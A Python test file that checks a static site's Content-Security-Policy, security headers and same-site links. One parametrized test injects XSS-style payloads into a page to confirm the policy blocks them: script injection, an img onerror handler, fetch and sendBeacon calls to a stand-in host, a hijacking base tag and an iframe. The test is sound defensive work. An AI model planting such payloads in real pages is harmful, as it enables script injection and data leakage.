"""What pages may do: nothing runs, applies or leaves that the site did not put there."""

import base64
import hashlib
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from lxml import html
from playwright.sync_api import Browser

from macros.finishing import policy
from macros.finishing.site import Site
from tests.published import publish
from tests.serving import headers_of, serve

LINKS = ("href", "src", "action", "formaction", "data", "poster", "srcset", "ping", "background", "manifest")


def pages(site: Path) -> list[tuple[Path, html.HtmlElement]]:
    return [
        (file, html.document_fromstring(file.read_text(encoding="utf-8"))) for file in sorted(site.rglob("*.html"))
    ]


def directives(said: str) -> dict[str, list[str]]:
    parts = (part.split() for part in said.split(";"))
    return {name: sources for name, *sources in parts}


def policy_of(page: html.HtmlElement) -> dict[str, list[str]]:
    [meta] = page.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    return directives(meta)


def hashed(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


def test_every_page_has_a_policy_before_anything_that_it_governs(site: Path) -> None:
    """The policy comes after the charset and before every script, style and link."""
    for file, page in pages(site):
        names = [
            element.get("http-equiv") or element.tag
            for element in page.head.iter("meta", "script", "style", "link")
        ]
        assert names[:2] == ["meta", "Content-Security-Policy"], file


def test_the_policy_allows_what_is_there_and_no_more(site: Path) -> None:
    """A page's hashes are exactly those of the scripts and styles in it, and every other source is the site itself."""
    for file, page in pages(site):
        allowed = policy_of(page)
        scripts = {
            s.text for s in page.iter("script") if not s.get("src") and s.get("type") != "application/ld+json"
        }
        styled = set(page.xpath("//@style"))
        assert set(allowed.pop("script-src")) == {"'self'", *map(hashed, scripts)}, file
        unsafe = {"'unsafe-hashes'"} if styled else set()
        assert set(allowed.pop("style-src")) == {"'self'", *unsafe, *map(hashed, styled)}, file
        assert allowed.pop("default-src") == allowed.pop("form-action") == ["'none'"]
        assert allowed.pop("img-src") == ["'self'", "data:"]  # the icon's drawing stands in its address
        assert all(sources == ["'self'"] for sources in allowed.values())
        assert (file.name == "quote.html") == bool(styled)


def test_hosts_are_told_one_policy_for_all_pages(site: Path) -> None:
    """The headers allow what some page needs, no inline code without its hash, no other host, and no frame around a page."""
    found = {(pattern, name): value for pattern, name, value in headers_of(site)}
    whole = directives(found["/*", "Content-Security-Policy"])
    assert whole.pop("frame-ancestors") == ["'none'"]
    for file, page in pages(site):
        own = policy_of(page)
        assert own.keys() == whole.keys()
        assert all(set(sources) <= set(whole[name]) for name, sources in own.items()), file
    assert "unsafe-inline" not in str(whole)
    assert "unsafe-eval" not in str(whole)
    assert not re.search(r"https?:|\*", str(whole))
    assert found["/*", "X-Content-Type-Options"] == "nosniff"
    assert found["/*", "Referrer-Policy"] == "same-origin"
    assert found["/sw.js", "Cache-Control"] == "no-cache"
    assert "immutable" in found["/code/*", "Cache-Control"]
    assert max(map(len, found.values())) < 2000  # the longest that a large host of static sites takes


def test_a_site_below_a_path_has_headers_for_that_path(project: Path) -> None:
    """The rules name the whole path, as hosts want it."""
    site = publish(project, "https://kitchen.example/house/")
    assert {pattern for pattern, _, _ in headers_of(site)} == {
        f"/house/{path}" for path in ("*", "code/*", "sw.js", "*.md", "llms.txt")
    }


def test_links_forms_and_what_pages_load_stay_on_the_site(site: Path) -> None:
    """Nothing that a page loads or sends to is elsewhere; only the list of sources, and the licence, lead to other sites."""
    own = urlsplit(Site(site).address).netloc
    for file, page in pages(site):
        for element in page.iter():
            for name in LINKS:
                to = urlsplit(element.get(name) or "")
                if (
                    (to.scheme in ("", "data") and not to.netloc)
                    or to.netloc == own
                    or element.tag in ("link", "meta")
                ):
                    assert (
                        element.tag != "link"
                        or not to.netloc
                        or to.netloc == own
                        or element.get("rel") == "license"
                    )
                    continue
                assert element.tag == "a", (file, element.tag, name)
                assert file.parent.name in ("sources", "newsletter") or to.netloc == "creativecommons.org", (
                    file,
                    to,
                )
        assert not page.xpath("//form[@action] | //base | //iframe | //object | //embed | //@ping")
        assert not [name for name in page.xpath("//@*") if name.attrname.startswith("on")]


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
        "document.body.insertAdjacentHTML('beforeend', '<b style=\"color: red\">x</b>')",
        "document.body.append(Object.assign(new Image(), {src: 'https://elsewhere.example/x.png'}))",
        "fetch('https://elsewhere.example/').catch(() => 0)",
        "navigator.sendBeacon('https://elsewhere.example/', 'x')",
        "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://elsewhere.example/\"></form>'); document.body.lastChild.submit()",
        "document.head.append(Object.assign(document.createElement('base'), {href: 'https://elsewhere.example/'}))",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://elsewhere.example/'}))",
        "setTimeout('window.hit = 1')",
    ],
)
def test_what_gets_into_a_page_can_do_nothing(browser: Browser, origin: str, attack: str) -> None:
    """Were foreign markup or a foreign address to get into a page, the policy would stop it."""
    context = browser.new_context()
    page = context.new_page()
    answered: list[str] = []
    page.on("requestfinished", lambda request: answered.append(request.url))
    page.goto(f"{origin}/about/")
    page.evaluate(
        "document.addEventListener('securitypolicyviolation', (event) => { window.stopped = event.effectiveDirective })"
    )
    page.evaluate(attack)
    page.wait_for_function("() => window.stopped")
    assert page.evaluate("window.hit") is None
    assert all(url.startswith(origin) for url in answered)
    context.close()


def test_a_page_that_changed_has_a_policy_of_what_it_has_now(tmp_path: Path) -> None:
    """Sealing again takes the old policy's place."""
    (tmp_path / "index.html").write_text(
        '<html><head><meta charset="utf-8"><script>a</script></head><body></body></html>'
    )
    policy.write(Site(tmp_path))
    text = (tmp_path / "index.html").read_text()
    (tmp_path / "index.html").write_text(text.replace("<script>a<", "<script>b<"))
    policy.write(Site(tmp_path))
    [page] = [page for _, page in pages(tmp_path)]
    assert policy_of(page)["script-src"] == ["'self'", hashed("b")]


def test_the_quote_s_block_looks_as_it_is_meant_to(browser: Browser, origin: str) -> None:
    """The one page with styles of its own, a block for e-mail, has them all under the policy."""
    context = browser.new_context()
    page = context.new_page()
    trouble: list[str] = []
    page.on("console", lambda message: trouble.append(message.text) if "style" in message.text else None)
    page.goto(f"{origin}/sourcing/principal/quote.html")
    colour = page.locator("[style*='background-color']").first.evaluate(
        "(block) => getComputedStyle(block).backgroundColor"
    )
    context.close()
    assert trouble == []
    assert colour == "rgb(251, 249, 244)"


def test_the_page_is_the_same_under_a_path(project: Path, browser: Browser, tmp_path: Path) -> None:
    """Below a path, too, every script and style of the page comes, and none is stopped."""
    site = publish(project, "http://127.0.0.1/house/")
    (tmp_path / "root").mkdir()
    site.rename(tmp_path / "root/house")
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    trouble: list[str] = []
    page.on("console", lambda message: trouble.append(message.text) if message.type == "error" else None)
    page.on("requestfailed", lambda request: trouble.append(request.url))
    with serve(tmp_path / "root") as address:
        page.goto(f"{address}/house/kitchen/")
        page.locator("site-search > button").click()
        page.locator("dialog.search input").wait_for()
        assert trouble == []
        context.close()  # stops what is still on its way
